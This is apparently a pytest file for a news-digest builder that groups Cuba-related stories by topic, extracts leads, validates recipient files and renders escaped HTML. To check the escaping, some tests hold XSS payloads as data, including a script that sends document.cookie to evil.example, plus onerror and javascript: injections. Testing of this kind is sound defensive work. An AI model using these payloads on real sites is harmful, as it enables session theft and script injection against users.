"""Building and rendering a digest from rows: each story once, top stories first, the reader's
topics only, leads without bylines or datelines, web text escaped, no score shown."""
from __future__ import annotations

from datetime import date, datetime, timedelta, timezone

from digest.build import build_digest
from digest.lead import lead, why
from digest.render import render_digest, safe_url
from storage.digests import ArticleRow
from storage.storyreads import StoryArticle

NOW = datetime(2026, 11, 30, 12, 0, tzinfo=timezone.utc)
TOPICS = [("dialogue", "US–Cuba dialogue"), ("energy", "Energy and food crisis"),
          ("remit", "Remittances")]


def row(aid, story, outlet, tags, title=None, hours=1.0):
    return ArticleRow(aid, story, title or f"Title {aid}", f"https://{outlet}.test/{aid}", outlet,
                      None, NOW - timedelta(hours=hours),
                      dict(tags))


def stored(outlet, aid, language=None):
    """A stored article of a story, as ``storage.storyreads.story_articles`` gives it."""
    return StoryArticle(aid, f"https://{outlet}.test/{aid}", outlet, None, None, None,
                        NOW - timedelta(hours=2), language)


def build(articles, stories=None, **kw):
    kw.setdefault("top", 2)
    return build_digest(articles, stories or {}, TOPICS, name="Test monitor",
                        day=date(2026, 11, 30), start=NOW - timedelta(days=1), end=NOW, **kw)


def test_each_story_appears_once_under_its_best_topic_with_other_topics_as_labels():
    articles = [row(1, 10, "a", {"energy": 9.0, "dialogue": 5.0}),
                row(2, 10, "b", {"dialogue": 6.0}),           # same story, other outlet
                row(3, 11, "a", {"remit": 7.0}),
                row(4, 12, "c", {"remit": 4.0, "energy": 4.5}),
                row(5, 13, "c", {"dialogue": 5.0}),
                row(6, None, "d", {})]                        # on no topic
    d = build(articles, {10: [stored("a", 1), stored("b", 2)]}, top=1)
    keys = [e.story_key for e in d.entries]
    assert len(keys) == len(set(keys)) == 4
    assert d.top[0].story_key == 10          # two outlets: the top story
    assert d.top[0].topic_id == "energy" and d.top[0].labels == ["US–Cuba dialogue"]
    assert d.top[0].also == [{"outlet": "b", "url": "https://b.test/2"}]
    by_section = {s.topic_id: [e.story_key for e in s.entries] for s in d.sections}
    assert by_section == {"dialogue": [13], "energy": [12], "remit": [11]}
    counts = {s.topic_id: s.story_count for s in d.sections}
    assert counts == {"dialogue": 2, "energy": 2, "remit": 2}
    assert d.untagged_count == 1 and d.story_count == 4
    assert d.subject.startswith("Test monitor · Mon 30 Nov 2026 · 4 stories: Title 1")


def test_each_section_names_its_stories_shown_above_so_its_count_adds_up():
    """A tester: "US–Cuba dialogue 7" in the table of topics had 4 stories under it, and topics
    counted there had no section at all (every story of theirs was a top story or under a
    stronger topic). Each section now links the stories of its topic shown under other headings."""
    articles = [row(1, 10, "a", {"energy": 9.0, "dialogue": 5.0}),
                row(2, 10, "b", {"dialogue": 6.0}),
                row(3, 11, "a", {"remit": 7.0}),
                row(4, 12, "c", {"remit": 4.0, "energy": 4.5})]
    d = build(articles, {10: [stored("a", 1), stored("b", 2)]}, top=1)
    sections = {s.topic_id: s for s in d.sections}
    for section in d.sections:   # what is counted is under the section or linked from it
        assert len(section.entries) + len(section.elsewhere) == section.story_count
    assert [e.story_key for e in sections["dialogue"].elsewhere] == [10]   # the top story
    assert sections["dialogue"].entries == []
    assert [e.story_key for e in sections["energy"].elsewhere] == [10]    # its own top story too
    html, text = render_digest(d)
    assert 'id="dialogue"' in html and 'href="#dialogue"' in html
    assert 'On US–Cuba dialogue, under other headings: <a href="#story10"' in html
    assert 'id="story10"' in html and "On US–Cuba dialogue, under other headings: Title 1" in text


def test_a_long_unbroken_string_from_the_web_wraps_on_a_phone(tmp_path):
    """A tester's digest was 560 px wide on a 400 px screen: a lead held a long unbroken string
    (an escaped <script> URL). Measured in headless Chromium, in a 400 px frame (Chromium lays a
    window out no narrower than 500 px)."""
    import shutil
    import subprocess

    import pytest

    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("no Chromium (Debian package `chromium`)")
    d = build([row(1, 1, "a", {"energy": 9.0}, title="Apagones " + "x" * 120)], top=1)
    d.top[0].lead = "<script>document.location='http://evil.example/'+document.cookie" + "y" * 80
    html, _ = render_digest(d)
    (tmp_path / "digest.html").write_text(html, encoding="utf-8")
    (tmp_path / "frame.html").write_text(
        "<html><body><iframe id='f' src='digest.html' style='width:400px;height:800px;border:0'>"
        "</iframe><script>document.getElementById('f').onload = function () {"
        "var doc = this.contentDocument.documentElement;"
        "document.title = 'width=' + doc.scrollWidth; };</script></body></html>", encoding="utf-8")
    out = subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu",
                          "--allow-file-access-from-files", "--virtual-time-budget=3000", "--dump-dom",
                          f"file://{tmp_path / 'frame.html'}"], capture_output=True, text=True, timeout=60)
    width = int(out.stdout.split("<title>width=", 1)[1].split("<", 1)[0])
    assert width <= 400, f"the digest is {width} px wide in a 400 px frame"


def test_a_reader_gets_only_their_topics_and_the_cap_counts_the_rest():
    articles = [row(i, 100 + i, "a", {"energy": 5.0 + i}) for i in range(8)]
    articles.append(row(50, 150, "b", {"remit": 9.0, "energy": 1.0}))
    d = build(articles, only_topics={"energy"}, top=2, per_topic=3)
    assert [s.topic_id for s in d.sections] == ["energy"]
    assert all(not e.labels for e in d.entries)                  # no label of another topic
    assert d.sections[0].more == 9 - 2 - 3 and d.story_count == 9
    assert [e.rank_score for e in d.top] == [12.0, 11.0]          # higher score first


def test_trend_against_the_daily_mean_of_the_previous_week():
    articles = [row(i, i, "a", {"energy": 5.0}) for i in range(1, 11)]
    d = build(articles, previous_counts={"energy": 14, "dialogue": 70}, top=0)
    trend = {s.topic_id: (s.story_count, s.previous_mean, s.trend) for s in d.sections}
    assert trend["energy"] == (10, 2.0, "up")
    assert trend["dialogue"] == (0, 10.0, "down")
    assert trend["remit"] == (0, 0.0, "flat")
    caught_up = build_digest(articles, {}, TOPICS, name="t", day=date(2026, 11, 30),
                             start=NOW - timedelta(days=5), end=NOW, top=0,
                             previous_counts={"energy": 14})
    assert caught_up.sections[1].trend == "flat"      # 10 stories in 5 days: 2 a day, as usual


def test_lead_drops_kicker_byline_date_line_and_dateline():
    text = ("Cuba\nApagones sin fin en el oriente\nPor María Pérez\nActualizado 30 nov 2026 "
            "10:00\nLA HABANA, 30 nov (EFE).- La Unión Eléctrica anunció cortes de hasta 20 "
            "horas en Santiago de Cuba. Los hospitales funcionan con grupos electrógenos. "
            "Una tercera frase que no debe salir.")
    assert lead(text, "Apagones sin fin en el oriente") == (
        "La Unión Eléctrica anunció cortes de hasta 20 horas en Santiago de Cuba. Los "
        "hospitales funcionan con grupos electrógenos.")
    wire = ("HAVANA (Reuters) - Cuba's government said on Monday that Mr. Rubio's remarks were "
            "false.")
    assert lead(wire) == "Cuba's government said on Monday that Mr. Rubio's remarks were false."
    plain = "Washington - based analysts say the talks stalled over property claims this week."
    assert lead(plain) == plain                   # an ordinary dash is not a dateline
    assert lead("word " * 200).endswith("…") and len(lead("word " * 200)) <= 321


def test_a_standfirst_without_a_full_stop_does_not_run_into_the_body():
    """A tester read "…la política de Fidel Castro El gobierno de Donald Trump…"."""
    text = ("Exmandatario cubano recordó la política de Fidel Castro\n"
            "El gobierno de Donald Trump anunció nuevas sanciones contra la isla este lunes. Otra.")
    assert lead(text, "Título").startswith("Exmandatario cubano recordó la política de Fidel "
                                           "Castro. El gobierno de Donald Trump anunció")


def test_why_gives_the_terms_found_in_most_evidence_sentences():
    evidence = ["[apagón, combustible] s1", "[apagón] s2", "[unión eléctrica + déficit] s3",
                "[combustible, apagón] s4"]
    assert why(evidence) == ["apagón", "combustible", "unión eléctrica … déficit"]
    assert why(["no brackets here"]) == []


def test_render_escapes_web_text_inlines_css_and_shows_no_score():
    hostile = '<script>alert(1)</script>Apagones <img src=x onerror=alert(2)>'
    articles = [row(1, 1, "a", {"energy": 9.87654}, title=hostile),
                row(2, 2, '<b onmouseover="x()">Outlet</b>', {"energy": 4.0})]
    articles[0].url = "javascript:alert(3)"
    d = build(articles, top=1)
    d.top[0].lead = "Lead with <script>evil()</script> inside"
    html, text = render_digest(d)
    low = html.lower()
    assert "<script" not in low and "onerror=" not in low.replace("onerror=alert(2)&gt;", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img" not in low and "javascript:" not in low and "<b onmouseover" not in low
    assert "9.87" not in html and "9.87" not in text and "score" not in text.lower()
    assert '<style' in html and "prefers-color-scheme: dark" in html   # kept for dark mode
    assert 'class="title" href="#" style="' in html                  # inlined by css-inline
    assert "<script>alert(1)</script>" in text                        # plain text is plain
    assert "Energy and food crisis" in text and "TOP STORIES" in text


def test_safe_url_keeps_only_http():
    assert safe_url("https://x.test/a?b=1") == "https://x.test/a?b=1"
    assert safe_url(" JavaScript:alert(1)") == "#" and safe_url(None) == "#"
    assert safe_url('https://x.test/<img onerror="a">') == "https://x.test/%3Cimg%20onerror=%22a%22%3E"


def test_recipients_file_is_checked_with_one_line_naming_the_fix():
    import pytest

    from digest.recipients import RecipientsError, parse_recipients

    ids = ["energy", "remit"]
    good = parse_recipients({"name": "Desk", "recipients": [
        {"email": "a@example.org", "topics": ["remit"], "timezone": "America/Havana",
         "empty_day": "skip"}, {"email": "b@example.org"}]}, ids)
    assert good.name == "Desk" and good.recipients[0].topics == ("remit",)
    assert good.recipients[1].topics is None and good.recipients[1].empty_day == "note"
    bad = [({"recipients": [{"email": "a@example.org", "topics": ["weather"]}]},
            "unknown topic id 'weather'; valid ids: energy, remit"),
           ({"recipients": [{"email": "a@example.org", "timezone": "Mars/Base"}]},
            "timezone 'Mars/Base' is unknown"),
           ({"recipients": [{"email": "a@example.org", "emial": "x"}]}, "unknown key 'emial'"),
           ({"recipients": [{"email": "a@example.org"}, {"email": "A@example.org"}]},
            "listed twice"),
           ({"recipients": [{"email": "a@example.org", "empty_day": "maybe"}]},
            "use 'note' or 'skip'"),
           ({"recipients": [{"email": "not an address"}]}, "is not an email address"),
           ({"readers": []}, "expected a mapping with a 'recipients' list")]
    for data, needle in bad:
        with pytest.raises(RecipientsError) as err:
            parse_recipients(data, ids, source="r.yaml")
        assert needle in str(err.value) and "\n" not in str(err.value)


def test_a_recipients_file_that_is_not_yaml_names_the_line(tmp_path):
    import pytest

    from digest.recipients import RecipientsError, load_recipients

    path = tmp_path / "r.yaml"
    path.write_text("recipients:\n  - email: a@example.org\n    topics: [remit\n", encoding="utf-8")
    with pytest.raises(RecipientsError, match=r"r.yaml: line \d+ is not valid YAML"):
        load_recipients(path, ["remit"])


def test_top_stories_rank_by_coverage_and_say_outlets_and_languages():
    def lang_row(aid, story, outlet, language, score):
        r = row(aid, story, outlet, {"energy": score})
        r.language = language
        return r

    articles = [lang_row(1, 20, "a", "en", 9.0),                  # one outlet, high score
                lang_row(2, 21, "b", "en", 5.0), lang_row(3, 21, "c", "en", 5.0),
                lang_row(4, 22, "d", "es", 4.0), lang_row(5, 22, "e", "en", 4.0)]
    stories = {21: [stored("b", 2, "en"), stored("c", 3, "en")],
               22: [stored("d", 4, "es"), stored("e", 5, "en")]}
    d = build(articles, stories, top=3)
    # Two outlets in two languages beat two outlets in one, which beat one outlet's high score.
    assert [e.story_key for e in d.top] == [22, 21, 20]
    html, text = render_digest(d)
    assert "Reported by 2 outlets, in English and Spanish." in text
    assert "Reported by 2 outlets, in English and Spanish" in html
    assert "Reported by 2 outlets." in text                      # one language: not named


def test_also_reported_names_each_other_outlet_once_by_its_name():
    window = [row(1, 30, "Diario A", {"energy": 5.0})]     # ArticleRow.outlet: the outlet's name
    members = [StoryArticle(1, "https://a.test/1", "a", "Diario A", None, None, NOW),
               StoryArticle(7, "https://b.test/7", "b", "Diario B", None, None, NOW),
               StoryArticle(8, "https://b.test/8", "b", "Diario B", None, None, NOW)]
    d = build(window, {30: members})
    assert d.top[0].also == [{"outlet": "Diario B", "url": "https://b.test/7"}]
    assert d.top[0].outlet_count == 2


def test_a_story_is_shown_through_its_first_published_copy_not_its_first_stored():
    """Two outlets' copies of one report score alike: the one published first leads, though
    the crawl stored the later one first (a tester's trial: the digest credited the copy)."""
    later, first = row(1, 10, "copy", {"energy": 5.0}), row(2, 10, "origin", {"energy": 5.0})
    later.published_at = NOW - timedelta(hours=3)
    first.published_at = NOW - timedelta(hours=4)
    entry = build([later, first], {10: [stored("copy", 1), stored("origin", 2)]}).entries[0]
    assert (entry.outlet, entry.also) == ("origin", [{"outlet": "copy", "url": "https://copy.test/1"}])


def test_a_day_without_a_time_is_shown_as_that_day_in_every_zone():
    """A page that states only its day is stored at that day's midnight UTC; a reader in New
    York saw "28 Jan 19:00" for a page of 29 January (a tester's trial). Times the page or the
    feed state are shown in the reader's zone as before."""
    day_only, timed = row(1, 1, "a", {"energy": 5.0}), row(2, 2, "b", {"energy": 4.0})
    day_only.published_at = datetime(2026, 11, 30, tzinfo=timezone.utc)
    timed.published_at = datetime(2026, 11, 30, 15, 30, tzinfo=timezone.utc)
    html, text = render_digest(build([day_only, timed], tz="America/New_York"))
    assert "30 Nov" in text and "29 Nov 19:00" not in text and "19:00" not in text
    assert "10:30" in text   # 15:30 UTC in New York


def test_a_date_of_another_year_says_its_year():
    """A tester: an article of February, newly in an outlet's feed, showed as "3 Feb 08:00" in a
    December digest, as if of this year."""
    old = row(1, 1, "a", {"energy": 9.0}, hours=24 * 400)       # October 2025
    d = build([old, row(2, 2, "b", {"energy": 5.0}, hours=30)], top=2)
    html, text = render_digest(d)
    assert "Oct 2025 " in html and "Oct 2025 " in text
    assert "29 Nov " in text and "29 Nov 2026" not in text      # this year's: no year


def test_the_text_digests_other_headings_line_wraps_and_ends_its_section():
    """A tester's plain-text digest ran the "under other headings" line past 200 columns and
    straight into the next section's heading."""
    long = "Talks on migration resume in Havana as both delegations meet for a second day"
    articles = [row(1, 10, "a", {"energy": 9.0, "dialogue": 5.0}),
                row(2, 11, "b", {"dialogue": 8.0, "energy": 6.0}),
                row(3, 12, "c", {"remit": 7.0})]
    d = build(articles, {}, top=0)
    for entry in (e for s in d.sections for e in (*s.entries, *s.elsewhere)):
        entry.title = long
    _, text = render_digest(d)
    lines = text.splitlines()
    at = next(i for i, line in enumerate(lines) if "under other headings" in line)
    assert all(len(line) <= 78 for line in lines[at:at + 3])
    after = next(i for i in range(at, len(lines)) if not lines[i].strip())
    assert lines[after + 1].startswith("==") or lines[after + 1] == "--"


def test_a_later_edition_of_the_day_keeps_the_earlier_ones_file(tmp_path):
    """A tester ran the digest twice in a day: the second overwrote the first edition's file,
    while the database still named that file for the first edition."""
    from types import SimpleNamespace

    from digest.run import archive

    edition = SimpleNamespace(day=date(2026, 12, 1))
    first = archive(edition, "<p>one</p>", "one", tmp_path)
    again = archive(edition, "<p>one</p>", "one", tmp_path)
    second = archive(edition, "<p>two</p>", "two", tmp_path)
    assert first == again and first[0].name == "digest-2026-12-01.html"
    assert (second[0].name, second[1].name) == ("digest-2026-12-01-2.html", "digest-2026-12-01-2.txt")
    assert first[0].read_text() == "<p>one</p>" and second[1].read_text() == "two"


def test_a_rerun_with_nothing_new_is_the_same_edition_though_its_window_ends_later(tmp_path):
    """Today's window ends now: a re-run a minute later with nothing new differed only in the
    window's line, and wrote digest-…-2, -3 (a new-user trial)."""
    from types import SimpleNamespace

    from digest.run import archive

    edition = SimpleNamespace(day=date(2026, 12, 1))
    line = "<div>8 stories from 2 outlets · stored 30 Nov 05:13 – 1 Dec {} (UTC)</div><p>{}</p>"
    text = "8 stories from 2 outlets · stored 30 Nov 05:13 – 1 Dec {} (UTC)\n{}"
    first = archive(edition, line.format("05:13", "one"), text.format("05:13", "one"), tmp_path)
    again = archive(edition, line.format("05:14", "one"), text.format("05:14", "one"), tmp_path)
    other = archive(edition, line.format("05:15", "two"), text.format("05:15", "two"), tmp_path)
    assert again == first and other[0].name == "digest-2026-12-01-2.html"


def test_lead_drops_byline_and_date_lines_in_the_other_topic_languages():
    """A tester's German and French articles led the digest with "Von … | Aktualisiert am …"."""
    body = "Die Regierung in Havanna kündigte am Montag neue Stromabschaltungen für den Osten an."
    for opening in ("Von Hans Müller und Eva Schmidt | Aktualisiert am 05.03.2026, 12:00 Uhr",
                    "Stand: 05.03.2026, 12:00 Uhr | Lesedauer: 3 Minuten für diesen Artikel",
                    "05.03.2026, 12:00 Uhr | Ein Bericht unserer Korrespondentin in Havanna",
                    "5. März 2026 · Ein Bericht unserer Korrespondentin in Havanna heute",
                    "Par Marie Dupont, publié le 5 mars 2026 à 12h00, mis à jour à 14h"):
        assert lead(f"{opening}\n{body}") == body, opening
    for prose in ("Von der Leyen sagte am Montag in Brüssel, die Gespräche gingen weiter.",
                  "De acuerdo con el ministerio, los cortes durarán hasta veinte horas.",
                  "Stand-up comedians in Havana drew crowds to a festival this weekend."):
        assert lead(prose) == prose
